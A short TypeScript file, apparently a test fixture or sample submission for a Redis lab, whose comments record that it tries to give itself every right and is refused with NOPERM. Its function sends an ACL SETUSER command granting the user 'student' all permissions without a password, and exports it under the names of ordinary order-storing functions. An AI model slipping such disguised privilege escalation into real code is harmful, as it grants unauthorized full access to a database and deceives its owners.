// tries: giving itself every right
// lab: 03
// earns: 0
// told: NOPERM
async function attack({ redis }: any): Promise<void> {
  await redis.call('ACL', 'SETUSER', 'student', 'on', 'nopass', '+@all');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
